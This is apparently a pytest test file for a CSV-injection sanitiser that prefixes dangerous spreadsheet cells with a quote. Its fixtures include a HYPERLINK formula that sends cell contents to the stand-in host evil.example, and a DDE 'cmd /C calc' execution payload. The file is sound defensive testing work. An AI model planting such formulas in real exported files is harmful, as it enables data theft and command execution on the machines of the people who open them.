"""CSV cells a spreadsheet opens as text (OWASP CSV injection): the pure function."""

from __future__ import annotations

from decimal import Decimal

import pytest

from broadcasts.csvsafe import csv_safe_cell, csv_safe_row


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")',
            '\'=HYPERLINK("https://evil.example/?leak="&A1,"詳細")',
        ),
        ("+81-4-7167-1111", "'+81-4-7167-1111"),
        ("-1+1", "'-1+1"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(value, expected):
    assert csv_safe_cell(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        "広報かしわ 12月号",
        "子育て支援センター（=予約制）のお知らせ",
        "1+1",
        "'=already quoted",
        "",
        "＝全角の等号",
    ],
)
def test_benign_text_is_kept_as_typed(value):
    assert csv_safe_cell(value) == value


@pytest.mark.parametrize("value", [0, 42, -1, -3.5, 42.0, Decimal("-12.50"), None])
def test_numbers_stay_numbers(value):
    assert csv_safe_cell(value) is value


def test_other_values_become_text_and_are_checked():
    class Name:
        def __str__(self) -> str:
            return "=1+1"

    assert csv_safe_row([Name(), 7, "-2", -2]) == ["'=1+1", 7, "'-2", -2]
